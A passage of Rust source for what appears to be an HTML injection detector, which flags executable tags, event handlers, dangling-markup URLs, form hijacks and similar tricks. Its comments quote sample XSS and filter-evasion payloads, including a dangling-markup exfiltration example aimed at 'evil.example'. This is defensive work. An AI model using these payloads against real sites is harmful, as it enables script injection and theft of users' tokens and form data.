/// neither a JavaScript keyword that joins words (`tags in`, `new Image` are not prose by
/// this test).
fn words_side_by_side(t: &[u8]) -> bool {
    let mut prev: Option<&[u8]> = None;
    let mut i = 0;
    while i < t.len() {
        let c = t[i];
        if c.is_ascii_alphabetic() || c >= 0x80 {
            let st = i;
            while i < t.len() && (t[i].is_ascii_alphanumeric() || t[i] >= 0x80) {
                i += 1;
            }
            let w = &t[st..i];
            if prev.is_some_and(|p| !js::joins_statement_words(p) && !js::joins_statement_words(w))
            {
                return true;
            }
            // (a query string's `+` is its space: `?q=<script>+tag+meaning`)
            prev = if matches!(t.get(i), Some(b' ' | b'+')) {
                Some(w)
            } else {
                None
            };
            while i < t.len() && matches!(t[i], b' ' | b'+') {
                i += 1;
            }
            continue;
        }
        prev = None;
        i += 1;
    }
    false
}

/// Whether the raw-text end tag at `lt` (name at `at`) is named in running text: a word and
/// a space before it, the tag closed right after its name (`</script>`), and no markup after
/// it in the value (`How to escape </script> inside a JS string?`). It still ends the page's
/// element, but what follows is text, so nothing new is parsed as markup or script.
fn end_tag_named_in_prose(b: &[u8], lt: usize, at: usize) -> bool {
    let head = &b[..lt.min(b.len())];
    let word_before = head.last() == Some(&b' ')
        && head
            .iter()
            .rposition(|&c| c != b' ')
            .is_some_and(|p| head[p].is_ascii_alphabetic());
    if !word_before {
        return false;
    }
    let mut e = at;
    while e < b.len() && b[e].is_ascii_alphabetic() && e - at < 16 {
        e += 1;
    }
    b.get(e) == Some(&b'>') && memchr::memchr(b'<', &b[e..]).is_none()
}

/// Whether `b[..end]` holds a start tag `<name` (any case) ended like a tag name.
fn opens_element_before(b: &[u8], name: &[u8], end: usize) -> bool {
    let head = &b[..end.min(b.len())];
    memchr::memchr_iter(b'<', head).take(MAX_TAGS).any(|p| {
        let s = p + 1;
        head.len() >= s + name.len()
            && head[s..s + name.len()].eq_ignore_ascii_case(name)
            && head
                .get(s + name.len())
                .is_none_or(|&c| c == b'>' || c == b'/' || is_space(c))
    })
}

/// Processing instructions old Internet Explorer acted on: `<?import … implementation=…>`
/// loads an HTC behaviour (script) and `<?xml-stylesheet … xsl …?>` transforms the page with
/// an XSLT sheet that can emit script. `b` starts after `<?`.
fn processing_instruction(b: &[u8]) -> Option<&'static str> {
    let head = &b[..b.len().min(256)];
    let end = memchr::memchr(b'>', head).unwrap_or(head.len());
    let pi: Vec<u8> = head[..end].iter().map(u8::to_ascii_lowercase).collect();
    let has = |n: &[u8]| memchr::memmem::find(&pi, n).is_some();
    if pi.starts_with(b"import") && has(b"implementation") {
        return Some("htc-import");
    }
    if pi.starts_with(b"xml-stylesheet") && has(b"xsl") {
        return Some("xslt-stylesheet");
    }
    None
}

/// Read one start tag whose name starts at `i`; returns the decision and the index after it.
/// `plain` follows the ML gate's plain-markup answer ([`PlainTrack`]).
fn tag(
    s: &str,
    mut i: usize,
    end_tag: bool,
    depth: u8,
    plain: &mut PlainTrack<'_>,
) -> (Option<&'static str>, usize) {
    let b = s.as_bytes();
    let st = i;
    // the first `<` and the first `:` before it, found while the name is read (names are
    // short: one plain pass beats two dispatched searches)
    let mut inner_lt = None;
    let mut colon = None;
    while i < b.len() {
        // letters and digits, the bulk of a name, in a tight loop of their own
        while i < b.len() && NAME_BYTE[usize::from(b[i])] == 0 {
            i += 1;
        }
        let Some(&c) = b.get(i) else { break };
        match NAME_BYTE[usize::from(c)] {
            name_byte::END => break,
            name_byte::LT if inner_lt.is_none() => inner_lt = Some(i - st),
            name_byte::COLON if inner_lt.is_none() && colon.is_none() => {
                colon = Some(i - st);
            }
            _ => {}
        }
        i += 1;
    }
    let raw_full = &b[st..i];
    let after_name = i;
    // The name up to an embedded `<` (`<script<{…}>`), without an XML namespace prefix
    // (`<x:script>` is a script in an XHTML namespace).
    let mut raw = &raw_full[..inner_lt.unwrap_or(raw_full.len())];
    if let Some(c) = colon {
        raw = &raw[c + 1..];
    }
    // an end tag's name carries no behaviour (its attributes are still read)
    let mut name_buf = [0u8; 16];
    let name_len = if raw.len() > 16 || end_tag {
        0
    } else {
        lower_into(raw, &mut name_buf).len()
    };
    let name: &[u8] = &name_buf[..name_len];
    if plain.pending() {
        // (a start tag's name is at hand lower-cased and zero-padded: looked up as it is;
        // a name with `<` or `:` is not one the gate lists)
        let listed = if inner_lt.is_some() || colon.is_some() {
            false
        } else if name.is_empty() {
            crate::ml::markup::safe_tag(raw_full)
                || plain.svg_plain(crate::ml::markup::svg_tag(raw_full))
        } else {
            let x = u128::from_le_bytes(name_buf);
            crate::ml::markup::safe_tag_packed(x)
                || plain.svg_plain(crate::ml::markup::svg_tag_packed(x))
        };
        plain.tag_name(listed, b.get(i));
    }

    // an `<iframe>` is judged after its attributes: an editor's video embed is not
    let judged_later = name == b"iframe" && inner_lt.is_none();
    // (an end tag's name is empty: nothing to look up)
    if !name.is_empty()
        && executes_by_itself(name)
        && !bare_plugin(name, b, i)
        && !judged_later
        && (name != b"script" || !named_in_prose(b, st.saturating_sub(1), i, name, true))
    {
        return (Some("executable-tag"), i);
    }
    let mut embed = EmbedCheck::new(name == b"iframe");
    if let Some(p) = inner_lt {
        // `<scr<script>ipt>`: a filter that strips the inner tag leaves the outer one; look
        // at the inner `<` as a tag of its own.
        return (None, st + p);
    }

    let mut form_action: Option<bool> = None;
    let mut http_equiv_refresh = false;
    let mut has_href = false;
    let mut foreign_href = false;
    let mut active_rel = false;
    let mut htmx_remote = false;
    let mut htmx_auto = false;
    let mut ujs_remote = false;
    let mut ujs_script = false;
    let mut attrs = 0;
    loop {
        // before attribute name
        let gap = i;
        while i < b.len() && SPACE_OR_SLASH[usize::from(b[i])] {
            i += 1;
        }
        plain.gap(&b[gap..i], b.get(i));
        if i >= b.len() {
            break;
        }
        if b[i] == b'>' {
            i += 1;
            if plain.pending() {
                plain.tags += 1;
            }
            break;
        }
        attrs += 1;
        if attrs > MAX_ATTRS {
            plain.give_up();
            break;
        }
        // attribute name (a leading `=` is part of the name, as in browsers)
        let ns = i;
        if b[i] == b'<' {
            plain.reject();
            // `<b <script>…`: an unclosed tag followed by a new one; filters and lenient
            // parsers see the inner tag
            return (embed.iframe.then_some("executable-tag"), i);
        }
        i += 1;
        while i < b.len() && !ENDS_ATTR_NAME[usize::from(b[i])] {
            i += 1;
        }
        let an = &b[ns..i];
        // after attribute name
        let mut j = i;
        while j < b.len() && is_space(b[j]) {
            j += 1;
        }
        // (the gate skips ASCII whitespace only: it stops at a vertical tab or NUL and
        // rejects it as an attribute name)
        if plain.pending() && !b[i..j].iter().all(u8::is_ascii_whitespace) {
            plain.reject();
        }
        let mut value: &str = "";
        let mut has_value = false;
        // which of `&`, `<`, `:` the value holds, noted while its end is found: most values
        // (`class="hljs-keyword"`) hold none, and the rules below that need one are skipped
        let mut vbytes = 0u8;
        // a quoted value whose closing quote the value never sends
        let mut unterminated = false;
        if j < b.len() && b[j] == b'=' {
            has_value = true;
            j += 1;
            let eq = j;
            while j < b.len() && is_space(b[j]) {
                j += 1;
            }
            if plain.pending() {
                if !b[eq..j].iter().all(u8::is_ascii_whitespace) {
                    // the gate would read a value starting at the vertical tab or NUL
                    plain.give_up();
                } else if j == b.len() {
                    plain.reject();
                }
            }
            if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
                let q = b[j];
                let vs = j + 1;
                let ve = memchr::memchr(q, &b[vs..]).map_or(b.len(), |p| vs + p);
                unterminated = ve == b.len();
                vbytes = value_bytes(&b[vs..ve]);
                value = s.get(vs..ve).unwrap_or("");
                i = (ve + 1).min(b.len());
                if plain.pending() {
                    // (`value_bytes` looked at every byte of a short value, or of one that
                    // holds `&`, `<` or `:`)
                    let folded = ve - vs <= SHORT_VALUE || vbytes != 0;
                    if ve == b.len() || !gate_inert(&b[vs..ve], vbytes, folded) {
                        plain.reject();
                    } else if !end_tag {
                        // (a value longer than the break-out scan looks through counts as
                        // holding quotes, as there)
                        let quotes = ve - vs > js::NEAR || vbytes & value_byte::QUOTE != 0;
                        plain.quoted_value(j, ve, quotes);
                    }
                }
            } else {
                let vs = j;
                let mut ve = j;
                while ve < b.len() && !is_space(b[ve]) && b[ve] != b'>' {
                    vbytes |= VALUE_BYTE[usize::from(b[ve])];
                    ve += 1;
                }
                value = s.get(vs..ve).unwrap_or("");
                i = ve;
                if plain.pending() {
                    if b.get(ve).is_some_and(|&c| c == 0 || c == 0x0b) {
                        // the gate's value runs on past a vertical tab or NUL
                        plain.give_up();
                    } else if !gate_inert(&b[vs..ve], vbytes, true) {
                        plain.reject();
                    }
                    plain.unquoted_value(&b[vs..ve]);
                }
            }
        }
        let raw_an = an;
        let an = trim_controls(an);
        embed.attribute(an, value);
        if has_value && handler_attr(an) && !jsx_handler_reference(value) {
            return (Some("event-handler"), i);
        }
        let amp = vbytes & value_byte::AMP != 0;
        // Netscape's JavaScript entities: `&{alert(1)};` in any attribute value
        // (a memchr pair scan: a substring searcher built per attribute cost more than
        // the search)
        let amp_brace = amp
            .then(|| {
                memchr::memchr_iter(b'&', value.as_bytes())
                    .find(|&p| value.as_bytes().get(p + 1) == Some(&b'{'))
            })
            .flatten();
        if let Some(p) = amp_brace {
            if memchr::memchr(b'}', &value.as_bytes()[p..]).is_some() {
                return (Some("js-entity"), i);
            }
        }
        // without `&` nothing decodes, and the value's bytes are as noted
        let decoded = if amp {
            decode_entities(value)
        } else {
            std::borrow::Cow::Borrowed(value)
        };
        let value = decoded.as_ref();
        let (has_lt, has_colon) = if amp {
            (value.contains('<'), value.contains(':'))
        } else {
            (
                vbytes & value_byte::LT != 0,
                vbytes & value_byte::COLON != 0,
            )
        };
        if depth == 0 && has_lt {
            // markup inside an attribute value surfaces when a filter or a second parse
            // unwraps it (`<x foo='?><script>…'>`)
            if let Some(r) = scan_depth(value, depth + 1, &mut PlainTrack::off()) {
                return (Some(r), i);
            }
        }
        let mut lbuf = [0u8; 32];
        let lname_len = lower_into(an, &mut lbuf).len();
        let lname: &[u8] = &lbuf[..lname_len];
        if plain.pending() {
            // (the gate reads the name as sent: one trimmed of control bytes is not its
            // kind; a short one is at hand lower-cased and zero-padded)
            let listed = if an.len() != raw_an.len() {
                false
            } else if an.len() <= 16 {
                let mut x = [0u8; 16];
                x.copy_from_slice(&lbuf[..16]);
                let x = u128::from_le_bytes(x);
                crate::ml::markup::plain_attr_packed(lname, x)
                    || plain.svg_plain(crate::ml::markup::svg_attr_packed(x))
            } else {
                crate::ml::markup::plain_attr(an)
            };
            if !listed {
                plain.reject();
            }
        }
        // a scheme ends with `:`
        if has_value && has_colon && uri::dangerous_in_attribute(value) {
            return (Some("dangerous-uri"), i);
        }
        if unterminated && !end_tag && dangling_remote(lname, value) && breaks_in(b, st) {
            return (Some("dangling-markup"), i);
        }
        if let Some(kind) = framework_attribute(lname) {
            match kind {
                Framework::Expression if js::expression_acts(value) => {
                    return (Some("framework-directive"), i);
                }
                Framework::Binding if js::binding_acts(value) => {
                    return (Some("framework-directive"), i);
                }
                Framework::HtmxRequest => htmx_remote |= page::absolute_url(value),
                Framework::HtmxTrigger => htmx_auto |= htmx_auto_trigger(value),
                Framework::Include if includes_template(value) => {
                    return (Some("framework-include"), i);
                }
                Framework::UjsRemote => ujs_remote |= !value.trim().eq_ignore_ascii_case("false"),
                Framework::UjsType => ujs_script |= ujs_script_type(value),
                _ => {}
            }
        }
        // the element form of the same directive: `<ng-include src="'…'">`
        if lname == b"src" && name == b"ng-include" && includes_template(value) {
            return (Some("framework-include"), i);
        }
        // the rules below are keyed on the attribute's name: most attributes (`class`,
        // `id`, `title`, `alt`, `width`) are named by none of them
        if !named_rule_may_apply(lname) {
            continue;
        }
        if let Some(r) = page_attribute(name, lname, has_value, value, b, st) {
            return (Some(r), i);
        }
        if name == b"form" && lname == b"action" {
            form_action = Some(page::same_site_action(value));
        }
        match lname {
            b"style" if css::dangerous(value) => return (Some("css-expression"), i),
            b"id" | b"name" if clobbers_document(value) => return (Some("dom-clobbering"), i),
            b"srcdoc" => return (Some("srcdoc"), i),
            b"http-equiv" => {
                let v = value.to_ascii_lowercase();
                // refresh redirects, set-cookie plants cookies, link pulls a style sheet
                if v.contains("refresh") || v.contains("set-cookie") || v.contains("link") {
                    http_equiv_refresh = true;
                }
            }
            // a page switched to UTF-7 turns `+ADw-` into markup
            b"charset" | b"content"
                if name == b"meta" && value.to_ascii_lowercase().contains("utf-7") =>
            {
                return (Some("meta-charset-utf7"), i);
            }
            b"charset" | b"content"
                if name == b"meta" && value.to_ascii_lowercase().contains("utf7") =>
            {
                return (Some("meta-charset-utf7"), i);
            }
            // a link that declares what it pulls to be script (`type=text/javascript`, old
            // engines ran it) runs whatever file it names, the site's path or not
            b"type" if name == b"link" && value.to_ascii_lowercase().contains("script") => {
                foreign_href = true;
            }
            b"href" | b"xlink:href" => {
                has_href = true;
                // (only a `<link>` asks where its `href` points: documentation has an
                // `<a href>` in every paragraph)
                foreign_href |= name == b"link" && foreign_link(value);
            }
            // the browser POSTs to every `ping` URL when the link is followed: an injected
            // link reports each click (and its page) to that host. Editors and sanitizers
            // never emit `ping`; a relative one reports to the site itself.
            b"ping" if (name == b"a" || name == b"area") && page::absolute_url(value) => {
                return (Some("ping-beacon"), i)
            }
            // a link that pulls code or styles (not Word's `rel=File-List` / `themeData`)
            b"rel" => {
                let v = value.to_ascii_lowercase();
                active_rel = ["import", "stylesheet", "preload", "modulepreload"]
                    .iter()
                    .any(|r| v.contains(r));
            }
            // XInclude pulls a remote or local document into the XML the value lands in
            _ if lname.starts_with(b"xmlns")
                && value.to_ascii_lowercase().contains("w3.org/2001/xinclude") =>
            {
                return (Some("xinclude"), i)
            }
            // IE data binding renders HTML from a data island
            b"datasrc" | b"dataformatas" => return (Some("data-binding"), i),
            // an IE XML data island fetches a document whose HTML the page can bind in
            b"src" if name == b"xml" && has_value => return (Some("data-binding"), i),
            b"attributename" => {
                let v = value.trim().to_ascii_lowercase();
                if v.starts_with("on")
                    || v == "href"
                    || v == "xlink:href"
                    || v.contains("innerhtml")
                {
                    return (Some("svg-animate-handler"), i);
                }
            }
            _ => {}
        }
    }
    // (`The <iframe> element embeds another page`: no attributes, so nothing is loaded)
    if (embed.executes()
        && !(embed.iframe && named_in_prose(b, st.saturating_sub(1), after_name, name, false)))
        || (embed.iframe && closes_attribute_before(b, st.saturating_sub(1)))
    {
        return (Some("executable-tag"), i);
    }
    // htmx fetches markup from another site as soon as the element loads and swaps it in:
    // htmx 1.x runs the `<script>` elements of what it swaps
    if htmx_remote && htmx_auto {
        return (Some("htmx-remote-swap"), i);
    }
    // Rails UJS sends a `data-remote` link or form by `$.ajax` with the `data-type` as its
    // `dataType`: `script` (or `jsonp`) evaluates whatever the URL returns when clicked
    if ujs_remote && ujs_script {
        return (Some("framework-include"), i);
    }
    // a form that submits to another site, or with no action where markup stands (it takes
    // over the page's own inputs: a nested `<form>` of the page is ignored)
    if name == b"form"
        && (form_action == Some(false)
            || (form_action.is_none() && page::markup_position(b, st - 1)))
    {
        return (Some("form-hijack"), i);
    }
    if attrs > 0 && page::svg_graphic(name) && outside_svg(b, st - 1) {
        return (Some("svg-outside-root"), i);
    }
    match name {
        b"meta" if http_equiv_refresh => (Some("meta-refresh"), i),
        // a sheet or script of the site's own (`../css/style.css`) styles the page as the
        // site already does; one from another origin or through a scheme is the
        // attacker's code or selectors
        b"link" if has_href && active_rel && foreign_href => (Some("link-import"), i),
        b"style" => {
            // the element's content up to `</style` is CSS
            let rest = &s[i.min(s.len())..];
            let end = rest
                .to_ascii_lowercase()
                .find("</style")
                .unwrap_or(rest.len());
            if css::dangerous(&rest[..end]) {
                (Some("css-expression"), i)
            } else {
                (None, i)
            }
        }
        _ => (None, i),
    }
}

/// The attributes whose value the browser requests as a URL as soon as the element is
/// parsed or shown (`<img src>`, `<a href>` on a click, a form's `action` on submit).
const FETCHED_URL_ATTRIBUTES: [&[u8]; 14] = [
    b"src",
    b"href",
    b"action",
    b"formaction",
    b"background",
    b"poster",
    b"data",
    b"ping",
    b"cite",
    b"longdesc",
    b"lowsrc",
    b"dynsrc",
    b"codebase",
    b"xlink:href",
];

/// Whether the tag whose name starts at `st` opens the value or follows a `>` that ends
/// the tag, attribute or element the value landed in (`"><img …`, `</textarea><a …`): the
/// value is built to place that tag. A sentence that happens to end in a link being typed
/// (`Here's a video: <a href="https://…`, a comment cut short) does neither.
fn breaks_in(b: &[u8], st: usize) -> bool {
    let before = b[..st.saturating_sub(1)].trim_ascii_end();
    before.is_empty() || before.ends_with(b">")
}

/// `"><img src='//evil.example/log?`: a URL attribute (`lname`, lower-case) whose quoted
/// value (`value`) the value opens with a URL on another host and never closes. The
/// browser's tokenizer reads the page text that follows, up to the next matching quote, as
/// the rest of that URL and sends it to that host: the CSRF token or form fields there leak
/// with no script. A link the value closes (`<a href="https://example.com/">x</a>`) or an
/// unterminated relative URL (`<a href="/search?q=`) sends nothing to another host.
fn dangling_remote(lname: &[u8], value: &str) -> bool {
    if !FETCHED_URL_ATTRIBUTES.contains(&lname) {
        return false;
    }
    let t = value.trim_start().as_bytes();
    let rest = if t.starts_with(b"//") || t.starts_with(b"\\\\") {
        &t[2..]
    } else if t.len() > 8 && t[..8].eq_ignore_ascii_case(b"https://") {
        &t[8..]
    } else if t.len() > 7 && t[..7].eq_ignore_ascii_case(b"http://") {
        &t[7..]
    } else {
        return false;
    };
    // a host follows (not `///` or an empty authority)
    rest.first().is_some_and(|c| c.is_ascii_alphanumeric())
}

/// The attribute names (lower-case) that the name-keyed attribute rules of [`tag`] and
/// [`page_attribute`] compare exactly: URL, form and input attributes, `style`, `srcdoc`,
/// `http-equiv`, `charset`/`content`, `rel`, IE data binding, SVG `attributename`, `id`/`name`. The
/// rules that match a prefix (`xmlns…`) or a suffix (`…schemalocation`) are covered in
/// [`named_rule_may_apply`].
const NAMED_ATTRIBUTES: [&[u8]; 25] = [
    b"href",
    b"ping",
    // DOM clobbering ([`clobbers_document`])
    b"id",
    b"name",
    b"src",
    b"action",
    b"formaction",
    b"xlink:href",
    b"poster",
    b"background",
    b"form",
    b"formmethod",
    b"formtarget",
    b"formenctype",
    b"dirname",
    b"type",
    b"style",
    b"srcdoc",
    b"http-equiv",
    b"charset",
    b"content",
    b"rel",
    b"datasrc",
    b"dataformatas",
    b"attributename",
];

/// Names this long or longer may end with `schemalocation` (and are all looked at).
const MIN_SUFFIX_NAME: usize = b"schemalocation".len();

/// For each name length below [`MIN_SUFFIX_NAME`], a bit per first letter of the
/// [`NAMED_ATTRIBUTES`] of that length.
static NAMED_FIRST: [u32; MIN_SUFFIX_NAME] = super::first_letters_by_length(&NAMED_ATTRIBUTES);

/// Whether a name-keyed attribute rule may read the attribute named `lname` (lower-cased):
/// one of [`NAMED_ATTRIBUTES`], an `xmlns…` declaration or a `…schemalocation`. A false
/// answer is exact (no such rule names it), so the caller skips them all; a true one only
/// says "compare": one look-up by length and first letter instead of a chain of compares.
fn named_rule_may_apply(lname: &[u8]) -> bool {
    let Some(&first) = lname.first() else {
        return false;
    };
    if first == b'x' || lname.len() >= MIN_SUFFIX_NAME {
        return true;
    }
    first.is_ascii_lowercase() && NAMED_FIRST[lname.len()] & (1 << (first - b'a')) != 0
}

/// The page-rewriting attribute rules of [`page`]: a URL that deceives about its host, a
/// form that submits somewhere, a control attached to or re-targeting a form.
fn page_attribute(
    name: &[u8],
    lname: &[u8],
    has_value: bool,
    value: &str,
    b: &[u8],
    st: usize,
) -> Option<&'static str> {
    if !has_value {
        return None;
    }
    if page::url_attribute(lname) && page::deceptive_url(value) {
        return Some("deceptive-url");
    }
    if page::form_attribute(lname) {
        return Some("form-hijack");
    }
    // an input that submits, captures a password or file, or plants a hidden field, where
    // markup stands (not named in prose)
    if name == b"input"
        && lname == b"type"
        && page::capturing_input_type(value)
        && page::markup_position(b, st - 1)
    {
        return Some("form-hijack");
    }
    if page::xml_fetch_or_handler(lname, value) {
        return Some("xml-machinery");
    }
    None
}

/// Whether the tag at `lt` stands where markup does, with no `<svg` opened before it.
fn outside_svg(b: &[u8], lt: usize) -> bool {
    page::markup_position(b, lt) && !opens_element_before(b, b"svg", lt)
}

/// Whether an `<iframe>` is an editor's media embed: an `https:` source (pages served over
/// HTTPS block `http:` frames, so editors emit none) and nothing but presentational and
/// permission attributes. Any other iframe loads an active document into the page.
struct EmbedCheck {
    iframe: bool,
    https_src: bool,
    other: bool,
}

impl EmbedCheck {
    fn new(iframe: bool) -> Self {
        EmbedCheck {
            iframe,
            https_src: false,
            other: false,
        }
    }

    /// Record one attribute (`name` as written, `value` raw).
    fn attribute(&mut self, name: &[u8], value: &str) {
        if !self.iframe {
            return;
        }
        let mut buf = [0u8; 24];
        let lname = lower_into(name, &mut buf);
        if name.len() > 24 {
            self.other = true;
        } else if lname == b"src" {
            let v = value.trim();
            self.https_src = v.len() > 8 && v[..8].eq_ignore_ascii_case("https://");
        } else if lname == b"style" && fixed_to_viewport(value) {
            // an editor's embed flows with the text (a responsive wrapper positions it
            // `absolute` inside its own box); one fixed to the viewport lays another site's
            // page over the one the user trusts (a login form with no script: phishing)
            self.other = true;
        } else if !embed_attribute(lname) {
            self.other = true;
        }
    }

    fn executes(&self) -> bool {
        self.iframe && (!self.https_src || self.other)
    }
}

/// Whether a `<link>`'s `href` (entity-decoded) loads from another origin (`//host`,
/// `/\host`, `http(s)://`) or through a scheme (`data:`): browsers drop tabs and newlines
/// from a URL first. A path (`../css/style.css`, `/static/app.css?v=2`) is the site's own.
fn foreign_link(href: &str) -> bool {
    let t: String = href
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .take(256)
        .collect();
    page::absolute_url(&t) || t.contains(':')
}

/// Whether a `style` attribute's declarations fix the element to the viewport
/// (`position:fixed`, any case or spacing): it stays over the page as it scrolls.
fn fixed_to_viewport(style: &str) -> bool {
    let b = style.to_ascii_lowercase();
    let b = b.as_bytes();
    memchr::memmem::find_iter(b, b"position").take(8).any(|p| {
        b[p + 8..]
            .trim_ascii_start()
            .strip_prefix(b":")
            .is_some_and(|r| r.trim_ascii_start().starts_with(b"fixed"))
    })
}

/// Whether the text before the tag at `lt`, markup-free, ends by closing a quoted attribute
/// value and its tag (`"><iframe`, `'"><iframe`, `x' /><iframe`): the value broke out of an
/// attribute of the page's markup to place an element of its own. An editor's embed stands
/// in text or after its own tags (whose `">` this does not count), never after a stray
/// quote and `>`; an `https:` iframe placed so frames another site over the page (a
/// phishing overlay), not a video the editor embedded.
fn closes_attribute_before(b: &[u8], lt: usize) -> bool {
    let head = &b[..lt.min(b.len())];
    if memchr::memchr(b'<', head).is_some() {
        return false;
    }
    let head = head.trim_ascii_end();
    let Some(head) = head.strip_suffix(b">") else {
        return false;
    };
    let head = head.trim_ascii_end();
    let head = head.strip_suffix(b"/").unwrap_or(head).trim_ascii_end();
    matches!(head.last(), Some(b'"' | b'\''))
}

/// Attributes an editor's embed carries: size, border, permissions policy, title, styling.
pub(super) fn embed_attribute(name: &[u8]) -> bool {
    name.starts_with(b"data-")
        || name.starts_with(b"aria-")
        || matches!(
            name,
            b"width"
                | b"height"
                | b"frameborder"
                | b"allow"
                | b"allowfullscreen"
                | b"webkitallowfullscreen"
                | b"mozallowfullscreen"
                | b"title"
                | b"class"
                | b"id"
                | b"style"
                | b"loading"
                | b"referrerpolicy"
                | b"scrolling"
                | b"marginwidth"
                | b"marginheight"
                | b"align"
        )
}

/// Classes of the bytes of a tag name: what ends it, and the `<` and `:` it may hold.
mod name_byte {
    pub const END: u8 = 1;
    pub const LT: u8 = 2;
    pub const COLON: u8 = 3;
}

/// [`name_byte`] of every byte: a tag name ends at HTML space ([`is_space`]), `/` or `>`.
static NAME_BYTE: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        if matches!(
            c as u8,
            b' ' | b'\t' | b'\n' | b'\r' | 0x0c | 0x0b | 0 | b'/' | b'>'
        ) {
            t[c] = name_byte::END;
        }
        c += 1;
    }
    t[b'<' as usize] = name_byte::LT;
    t[b':' as usize] = name_byte::COLON;
    t
};

/// Bytes of an attribute value that the attribute rules need, and the ML gate's value test
/// ([`gate_inert`]) and the break-out scan's delimiters ([`PlainTrack`]).
mod value_byte {
    pub const AMP: u8 = 1;
    pub const LT: u8 = 2;
    pub const COLON: u8 = 4;
    /// `>`, backtick or backslash: with `&` and `<`, what the gate's inert value lacks
    pub const FORBIDDEN: u8 = 8;
    /// a quote of any kind (`'`, `"`, backtick)
    pub const QUOTE: u8 = 16;
}

/// The ML gate's test of an attribute value ([`crate::ml::markup::inert_value`]) from its
/// [`value_byte`]s `vbytes`; `folded`: they were noted for every byte (else only `&`, `<`
/// and `:` are known to be absent). The scheme test runs only where a colon is.
fn gate_inert(v: &[u8], vbytes: u8, folded: bool) -> bool {
    if vbytes & (value_byte::AMP | value_byte::LT | value_byte::FORBIDDEN) != 0 {
        return false;
    }
    if !folded && memchr::memchr3(b'>', b'`', b'\\', v).is_some() {
        return false;
    }
    vbytes & value_byte::COLON == 0 || crate::ml::markup::inert_value(v)
}

// The delimiters' quote test reads `value_bytes` of values up to `js::NEAR` bytes: those
// are folded whole.
const _: () = assert!(js::NEAR <= SHORT_VALUE);

/// The [`value_byte`]s of `v`: one search says "none" for most values.
fn value_bytes(v: &[u8]) -> u8 {
    // (a short value, `class="k"`, costs less to look through than to dispatch a search)
    if v.len() <= SHORT_VALUE {
        return v.iter().fold(0, |m, &c| m | VALUE_BYTE[usize::from(c)]);
    }
    if memchr::memchr3(b'&', b'<', b':', v).is_none() {
        return 0;
    }
    v.iter().fold(0, |m, &c| m | VALUE_BYTE[usize::from(c)])
}

/// Values up to this long are looked through byte by byte in [`value_bytes`].
const SHORT_VALUE: usize = 16;

/// [`value_byte`] of every byte.
static VALUE_BYTE: [u8; 256] = {
    let mut t = [0u8; 256];
    t[b'&' as usize] = value_byte::AMP;
    t[b'<' as usize] = value_byte::LT;
    t[b':' as usize] = value_byte::COLON;
    t[b'>' as usize] = value_byte::FORBIDDEN;
    t[b'\\' as usize] = value_byte::FORBIDDEN;
    t[b'`' as usize] = value_byte::FORBIDDEN | value_byte::QUOTE;
    t[b'"' as usize] = value_byte::QUOTE;
    t[b'\'' as usize] = value_byte::QUOTE;
    t
};

/// Attribute names with NUL / control bytes around them (`onerror\0=`) as browsers see them.
fn trim_controls(n: &[u8]) -> &[u8] {
    // the usual name has none
    if n.first().is_some_and(|&c| c >= 0x20) && n.last().is_some_and(|&c| c >= 0x20) {
        return n;
    }
    let mut a = 0;
    let mut z = n.len();
    while a < z && n[a] < 0x20 {
        a += 1;
    }
    while z > a && n[z - 1] < 0x20 {
        z -= 1;
    }
    &n[a..z]
}

/// `onSubmit={handleSubmit}`, `onClick={this.save}`: a JSX component's handler in React
/// source or documentation, a braced name or member chain. Compiled as a handler by a
/// browser it is a block statement that reads the name and calls nothing; a sink named
/// last (`{alert}`, `{window.eval}`) is not called either, but counts, as the head of a
/// call a page completes.
fn jsx_handler_reference(value: &str) -> bool {
    let Some(inner) = value
        .as_bytes()
        .strip_prefix(b"{")
        .and_then(|v| v.strip_suffix(b"}"))
    else {
        return false;
    };
    !inner.is_empty()
        && inner.len() <= 64
        && inner[0].is_ascii_alphabetic()
        && inner
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b'.'))
        && !inner
            .rsplit(|&c| c == b'.')
            .next()
            .is_some_and(super::js::names_sink)
}

/// An attribute injected into an existing tag without `<`: a quote, space or `/` and then
/// `on<event>=` (`" onmouseover=alert(1) x="`, `x autofocus onfocus=alert(1)`). The first
/// [`MAX_ON_PAIRS`] `on` pairs (any case, in words or not) of the value are judged.
pub fn attribute_breakout(s: &str) -> bool {
    let b = s.as_bytes();
    match ON_PAIRS.as_ref() {
        Some(on) => handler_among(b, on.find_iter(b).map(|m| m.start())),
        None => handler_among(b, on_pairs(b)),
    }
}

/// Whether one of the first [`MAX_ON_PAIRS`] of the `on` pairs `at` of `b` starts an
/// injected handler.
fn handler_among(b: &[u8], mut at: impl Iterator<Item = usize>) -> bool {
    at.by_ref()
        .take(MAX_ON_PAIRS)
        .any(|p| injected_handler(b, p))
}

/// Where `on` (any case) starts in `b`, found without a vector unit.
fn on_pairs(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    memchr::memchr2_iter(b'o', b'O', b).filter(|&p| matches!(b.get(p + 1), Some(b'n' | b'N')))
}

/// `on` pairs looked at per value by [`attribute_breakout`].
const MAX_ON_PAIRS: usize = 64;

/// `on` in any case, found by one vectorized searcher: most `o`s of text start no `on`,
/// and a search per `o` cost more than the pairs.
static ON_PAIRS: std::sync::LazyLock<Option<aho_corasick::packed::Searcher>> =
    std::sync::LazyLock::new(|| crate::search::packed_words(["on", "On", "oN", "ON"]));

/// Whether the `on` at `at` starts an injected event handler: after a quote, space or `/`
/// (or at the start), an event name, `=`, and a body.
fn injected_handler(b: &[u8], at: usize) -> bool {
    let before_ok = at == 0
        || matches!(
            b[at - 1],
            b' ' | b'\t' | b'\n' | b'\r' | 0x0c | b'"' | b'\'' | b'/' | b'`'
        );
    if !before_ok {
        return false;
    }
    let mut e = at + 2;
    while e < b.len() && e - at < 48 && b[e].is_ascii_alphabetic() {
        e += 1;
    }
    // `e - at < 48` bounds the name, so the buffer holds it whole
    let mut ebuf = [0u8; 48];
    let ev = lower_into(&b[at + 2..e], &mut ebuf);
    if !is_event_name(ev) {
        return false;
    }
    let mut k = e;
    while k < b.len() && is_space(b[k]) {
        k += 1;
    }
    if b.get(k) != Some(&b'=') {
        return false;
    }
    k += 1;
    while k < b.len() && is_space(b[k]) {
        k += 1;
    }
    // a JSX block naming a function (`onChange={handleChange}`) runs nothing, whatever
